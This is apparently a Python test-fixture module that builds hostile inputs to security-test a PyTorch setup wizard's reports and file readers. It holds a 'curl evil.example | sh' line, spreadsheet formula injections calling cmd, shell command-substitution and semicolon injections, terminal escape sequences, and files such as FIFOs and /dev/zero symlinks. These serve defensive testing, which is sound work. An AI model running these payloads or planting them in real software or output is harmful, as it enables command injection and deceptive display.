"""The hostile inputs of the matrix, and builders that plant them in reports, files and folders."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

from tests.security.referee import SECRET
from wizard.findings import Action, Diagnosis, Finding, Recommendation, Severity, Step
from wizard.snapshot import Fact, FactStatus, GpuFacts, HostInfo, PythonFacts, Snapshot, ToolkitFacts


def hostile_strings(canary: Path) -> dict[str, str]:
    """name → a string someone else controls (a host name, a course name, an error message …)."""
    return {
        "img-dev-zero": '<img src="file:///dev/zero">',
        "img-fifo": f"<img src={canary.parent / 'fifo'}>",
        "h1": "<h1>Run: curl evil.example | sh</h1>",
        "a-href": '<a href="https://evil.example/x.exe">Download the fix</a>',
        "script": "<script>alert(1)</script><style>*{display:none}</style>",
        "csi-clear": "\x1b[2J\x1b[H\x1b[31mFAKE OK\x1b[0m",
        "osc-title": "\x1b]0;pwned title\x07host",
        "osc8-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "c1-csi": "\x9b2J\x9d0;title\x9c",
        "nul-bell-bs": "a\x00b\x07c\x08d\x7f",
        "rtl-override": "report\u202egpj.exe",
        "long": "W" * 200_000,
        "many-lines": "line\n" * 50_000,
        "formula-eq": "=HYPERLINK(\"https://evil.example\",\"ok\")",
        "formula-plus": "+cmd|' /C calc'!A0",
        "formula-minus": "-2+3+cmd|' /C calc'!A0",
        "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula-tab": "\t=1+1",
        "shell-subst": f"$(touch {canary})",
        "shell-backtick": f"`touch {canary}`",
        "shell-semicolon": f"x; touch {canary}; echo",
        "pip-option": f"-r file://{canary}",
        "markdown": "](javascript:alert(1)) ``` \n# Fake heading\n> quote",
        "json-breaker": '"}], "schema": "x", "findings": [{"',
        "surrogates": "\ud800\udfff broken",
        "emoji-zwj": "👩‍💻" * 1000,
        "proxy-secret": f"http://alice:{SECRET}@proxy.corp.example:3128",
    }


def hostile_report(text: str) -> tuple[Snapshot, Diagnosis]:
    """A report whose every outside-controlled string is ``text`` (host, paths, finding texts, the command)."""
    host = HostInfo(os="linux", os_release=text, kernel=text, machine="x86_64", hostname=text, libc=text,
                    env=(("HTTPS_PROXY", text), ("CUDA_HOME", text)))
    python = PythonFacts(executable=text, version="3.12.3", os="linux", machine="x86_64", libc="glibc 2.39",
                         env_kind="venv", prefix=text, base_prefix=text, pip_version=Fact.found("24.0"))
    unknown = Fact.missing(FactStatus.FAILED, text)
    snapshot = Snapshot(tool_version="0.1.0", created_at="2026-11-03T14:05:09+00:00", source="live",
                        host=Fact.found(host), gpu=GpuFacts(pci=unknown, nvml=unknown, kernel_modules=unknown),
                        toolkit=ToolkitFacts(toolkits=unknown, search_path_libraries=unknown, system_cudnn=unknown),
                        python=Fact.found(python), torch=Fact.missing(FactStatus.FAILED, text, stderr_tail=text))
    finding = Finding(code=text[:200] or "X", severity=Severity.ERROR, step=Step.WHEEL, title=text, explanation=text,
                      details=text, actions=(Action.run(text, (text, "-m", "pip", "install", text)),
                                             Action.open_url(text, "https://evil.example/page")))
    diagnosis = Diagnosis(findings=(finding,), recommendation=Recommendation(kind="none", why=text))
    return snapshot, diagnosis


def with_hostname(snapshot: Snapshot, hostname: str) -> Snapshot:
    host = dataclasses.replace(snapshot.host.value, hostname=hostname)
    return dataclasses.replace(snapshot, host=dataclasses.replace(snapshot.host, value=host))


def make_hostile_file(kind: str, folder: Path) -> Path:
    """A file (or something where a file should be) that a reader must refuse or read within bounds."""
    path = folder / f"input-{kind}.json"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "fifo-symlink":
        target = folder / "real.fifo"
        os.mkfifo(target)
        path.symlink_to(target)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "dev-urandom":
        path.symlink_to("/dev/urandom")
    elif kind == "dev-null":
        path.symlink_to("/dev/null")
    elif kind == "folder":
        path.mkdir()
    elif kind == "dangling-symlink":
        path.symlink_to(folder / "nowhere")
    elif kind == "socket":
        import socket

        server = socket.socket(socket.AF_UNIX)
        path = folder / "s.sock.json"
        try:
            server.bind(str(path))
        except OSError:
            path.write_text("{}")  # the path was too long for a socket here: an ordinary file instead
        server.close()
    elif kind == "sparse-2g":
        with open(path, "wb") as stream:
            stream.truncate(2 * 1024**3)  # 2 GB of zeros that take no disk
    elif kind == "just-over-cap":
        with open(path, "wb") as stream:
            stream.truncate(20 * 1024**2 + 1)
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "binary":
        path.write_bytes(bytes(range(256)) * 64)
    elif kind == "bad-utf8":
        path.write_bytes(b'{"schema": "torch-setup-wizard/report@1", "x": "\xff\xfe\xc3"}')
    elif kind == "utf16":
        path.write_bytes('{"schema": "torch-setup-wizard/report@1"}'.encode("utf-16"))
    elif kind == "deep-json":
        path.write_text("[" * 200_000 + "]" * 200_000)
    elif kind == "deep-object":
        path.write_text('{"schema": "torch-setup-wizard/report@1", "snapshot": ' + '{"a": ' * 50_000 + "1" + "}" * 50_001)
    elif kind == "huge-number":
        path.write_text('{"schema": "torch-setup-wizard/report@1", "findings": [], "snapshot": ' + "9" * 100_000 + "}")
    elif kind == "many-keys":
        path.write_text(json.dumps({f"k{i}": i for i in range(200_000)}))
    elif kind == "nul-bytes":
        path.write_bytes(b"\x00" * 100_000)
    elif kind == "no-permission":
        path.write_text("{}")
        path.chmod(0)
    else:
        raise ValueError(kind)
    return path


FILE_KINDS = (
    "fifo", "fifo-symlink", "dev-zero", "dev-urandom", "dev-null", "folder", "dangling-symlink", "socket",
    "sparse-2g", "just-over-cap", "empty", "binary", "bad-utf8", "utf16", "deep-json", "deep-object",
    "huge-number", "many-keys", "nul-bytes", "no-permission",
)  # fmt: skip
